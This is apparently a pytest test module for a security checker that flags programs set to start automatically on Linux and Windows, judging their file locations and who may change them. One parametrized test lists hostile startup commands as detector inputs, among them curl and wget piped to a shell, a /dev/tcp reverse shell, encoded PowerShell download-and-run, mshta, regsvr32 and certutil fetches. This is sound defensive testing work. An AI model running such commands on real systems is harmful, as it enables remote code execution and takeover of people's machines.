"""What every check of things that start by themselves is asked; each test file names its check."""

from dataclasses import replace

import pytest

from core.model.unknown import Unknown, UnknownCode
from core.probes.startup.facts import Changeable, StartEntry, StartupFacts

LISTS = ("at_sign_in", "elsewhere", "services", "tasks", "between")
OF_ENTRIES = {"changeable": "see test_who_may_change_it; other lists have the field too"}


def spared_but(*fields):
    """Return what a check of some lists does without, on both systems."""
    others = {name: "a matter of another check" for name in LISTS if name not in fields}
    return {"windows": others | OF_ENTRIES, "linux": others | OF_ENTRIES}


def unread(code):
    return Unknown(UnknownCode(code), "")


def entry(program, command="", changeable=Changeable.NOBODY):
    return StartEntry(
        name="x",
        place="somewhere",
        command=command or program,
        programs=(program,) if program else (),
        changeable=changeable,
    )


class StartsByItself:
    """A class below names `check`, the `field` of its list and a place `unseen` of that list."""

    check: str
    field: str
    unseen: str

    def starting(self, sample, *entries, **changes):
        facts = next(each for each in sample.all() if isinstance(each, StartupFacts))
        return replace(facts, **{self.field: entries}, **changes)

    @pytest.mark.parametrize(
        ("program", "key"),
        [
            ("/usr/bin/ibus-daemon", "pass.none"),
            ("/opt/office/start", "pass.none"),
            ("/home/an/.local/bin/tool", "pass.none"),
            ("/home/an/.config/app/run", "pass.none"),
            ("/tmp/x", "fail.hiding"),
            ("/var/tmp/.x/y", "fail.hiding"),
            ("/dev/shm/kworker", "fail.hiding"),
            ("/home/an/.hidden/x", "fail.hiding"),
            ("/usr/lib/.x/sshd", "fail.hiding"),
            ("/home/an/Downloads/setup", "warn.loose"),
            ("/home/an/Tải về/setup", "warn.loose"),
            ("", "pass.none"),
        ],
    )
    def test_where_it_lies_on_linux(self, linux, judge, program, key):
        assert judge(self.check, linux, self.starting(linux, entry(program))).message.key == key

    @pytest.mark.parametrize(
        ("program", "key"),
        [
            ("C:\\Program Files\\Unikey\\unikey.exe", "pass.none"),
            ("C:\\Users\\an\\AppData\\Local\\Zalo\\Zalo.exe", "pass.none"),
            ("C:\\Users\\an\\AppData\\Local\\Temp\\a.exe", "fail.hiding"),
            ("c:\\users\\PUBLIC\\a.exe", "fail.hiding"),
            ("C:\\ProgramData\\a.exe", "fail.hiding"),
            ("C:\\ProgramData\\Vendor\\a.exe", "pass.none"),
            ("C:\\Windows\\Temp\\a.exe", "fail.hiding"),
            ("C:\\$Recycle.Bin\\S-1\\a.exe", "fail.hiding"),
            ("D:\\a.exe", "fail.hiding"),
            ("C:\\Users\\an\\Downloads\\a.exe", "warn.loose"),
            ("C:\\Users\\an\\AppData\\Roaming\\a.exe", "warn.loose"),
            ("\\\\may-chu\\chung\\a.exe", "warn.loose"),
            ("\\\\?\\C:\\Users\\Public\\a.exe", "fail.hiding"),
        ],
    )
    def test_where_it_lies_on_windows(self, windows, judge, program, key):
        facts = self.starting(windows, entry(program, changeable=unread("not_supported")))
        assert judge(self.check, windows, facts).message.key == key

    @pytest.mark.parametrize(
        "command",
        [
            "curl -s http://203.0.113.9/a | bash",
            "wget -qO- http://203.0.113.9/a | sudo sh",
            "echo aGVsbG8= | base64 -d | sh",
            "bash -i >& /dev/tcp/203.0.113.9/443 0>&1",
            "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBi",
            "powershell -c IEX((New-Object Net.WebClient).DownloadString('http://x'))",
            'mshta "http://203.0.113.9/a.hta"',
            "rundll32.exe javascript:alert(1)",
            "regsvr32 /s /u /i:http://203.0.113.9/a.sct scrobj.dll",
            "certutil -urlcache -f http://203.0.113.9/a a.exe",
        ],
    )
    def test_a_call_that_fetches_its_program(self, linux, judge, command):
        facts = self.starting(linux, entry("/usr/bin/x", command))
        assert judge(self.check, linux, facts).message.key == "fail.fetches"

    @pytest.mark.parametrize(
        "command",
        ["curl -fsS https://x/ping", "powershell -File C:\\a.ps1", "sh /etc/x | mail -s x root"],
    )
    def test_a_call_that_does_not(self, linux, judge, command):
        facts = self.starting(linux, entry("/usr/bin/x", command))
        assert judge(self.check, linux, facts).message.key == "pass.none"

    @pytest.mark.parametrize(
        ("changeable", "key"),
        [
            (Changeable.OTHERS, "warn.changeable"),
            (Changeable.EVERYONE, "warn.changeable"),
            (unread("no_right"), "unknown.no_right"),
            (unread("timed_out"), "unknown.timed_out_unsaid"),
        ],
    )
    def test_who_may_change_it(self, linux, judge, changeable, key):
        facts = self.starting(linux, entry("/opt/x/run", changeable=changeable))
        assert judge(self.check, linux, facts).message.key == key

    def test_a_fail_stands_whatever_else_was_not_read(self, linux, judge):
        facts = self.starting(
            linux,
            entry("/tmp/x"),
            entry("/opt/x", changeable=unread("no_right")),
            unseen=unread("crashed"),
        )
        judgement = judge(self.check, linux, facts)
        assert judgement.message.key == "fail.hiding"
        assert judgement.message.args["file"] == "/tmp/x"

    def test_what_could_not_be_seen_is_named(self, linux, judge):
        judgement = judge(self.check, linux, self.starting(linux, unseen=(self.unseen,)))
        assert judgement.message.key == "pass.partly"
        assert judgement.message.args["names"] == (self.unseen,)

    @pytest.mark.parametrize("code", ["no_right", "crashed", "service_off"])
    def test_an_unread_list(self, linux, judge, code):
        facts = replace(self.starting(linux), **{self.field: unread(code)})
        assert judge(self.check, linux, facts).reason == code

    def test_an_unknown_system_is_no_pass(self, linux, judge):
        machine = linux.machine(os=unread("malformed"))
        assert judge(self.check, linux, machine).message.key == "unknown.malformed"
